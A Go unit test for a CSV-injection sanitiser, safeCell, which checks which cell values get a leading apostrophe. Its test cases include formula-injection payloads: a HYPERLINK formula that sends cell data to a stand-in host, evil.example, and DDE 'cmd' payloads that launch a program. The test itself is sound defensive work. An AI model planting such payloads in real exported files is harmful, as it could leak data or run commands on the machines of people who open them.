package dataset

import "testing"

// TestSafeCell checks the CSV injection rule: text that a spreadsheet would
// run as a formula gets a leading ', and figures stay as published.
func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		// Figures, as published or as parsed: unchanged.
		{"-10%", "-10%"},
		{"-3.5", "-3.5"},
		{"+2", "+2"},
		{"+2.5%", "+2.5%"},
		{"-£1,200", "-£1,200"},
		{"+£1,200", "+£1,200"},
		{"-10--5", "-10--5"},
		{"-01:30", "-01:30"},
		{"-42.5% (62/146)", "-42.5% (62/146)"},
		{"-", "-"},
		{"-0", "-0"},
		// Text starting with a formula character: prefixed.
		{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `'=HYPERLINK("https://evil.example/?"&A1,"Click")`},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"+", "'+"},
		{"+-5", "'+-5"},
		{"+SUM(A1:A2)", "'+SUM(A1:A2)"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"- see note 3", "'- see note 3"},
		{"--", "'--"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\t5", "'\t5"}, // a figure with white space around it is text to a spreadsheet, and a tab starts a formula
		{"-\t", "'-\t"}, // found by FuzzSite
		// Anything else: unchanged.
		{"", ""},
		{"Repairs on time", "Repairs on time"},
		{"42.5% (62/146)", "42.5% (62/146)"},
		{"1+1", "1+1"},
		{" =1+1", " =1+1"},
		{"'=1+1", "'=1+1"},
		{"Note 1: =SUM(A1)", "Note 1: =SUM(A1)"},
	} {
		if got := safeCell(tc.in); got != tc.want {
			t.Errorf("safeCell(%q) = %q; want %q", tc.in, got, tc.want)
		}
	}
}
